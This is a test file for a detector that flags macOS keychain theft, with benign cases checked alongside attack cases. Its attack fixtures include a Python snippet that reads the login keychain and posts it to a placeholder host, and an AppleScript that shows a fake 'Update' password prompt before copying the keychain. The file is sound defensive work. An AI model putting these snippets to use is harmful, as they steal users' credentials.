import { expect, test } from 'vitest'
import { artifactOf, hits } from '../testing.ts'
import detector from './stealer-keychain.ts'

const seen = async (files: Record<string, string>) =>
  hits(detector, await artifactOf(files)).map(
    ({ strength, weight, where }) => `${strength} ${weight} ${where.file}:${where.line}`,
  )

test.each([
  [
    'the keychain’s file',
    {
      'a.py':
        'import os, requests\nf = open(os.path.expanduser("~/Library/Keychains/login.keychain-db"), "rb")\nrequests.post("https://c.invalid", files={"f": f})',
    },
    ['decisive 13 a.py:2'],
  ],
  [
    'a password and the keychain',
    {
      'a.applescript':
        'set p to text returned of (display dialog "Update" default answer "" with hidden answer)\ndo shell script "cp ~/Library/Keychains/login.keychain-db /tmp/k"',
    },
    ['decisive 10 a.applescript:2'],
  ],
])('attack: %s', async (_, files, expected) => {
  expect(await seen(files)).toEqual(expect.arrayContaining(expected))
})

test.each([
  [
    'a password typed in a terminal',
    'import getpass, requests\nrequests.post("https://id.example", data={"p": getpass.getpass()})',
    [],
  ],
  [
    'an entry of one’s own',
    'import subprocess\nsubprocess.check_output(["security", "find-generic-password", "-s", "my-tool", "-w"])',
    ['context 1 a.py:2'],
  ],
])('innocent: %s', async (_, code, expected) => {
  expect(await seen({ 'a.py': code })).toEqual(expected)
})
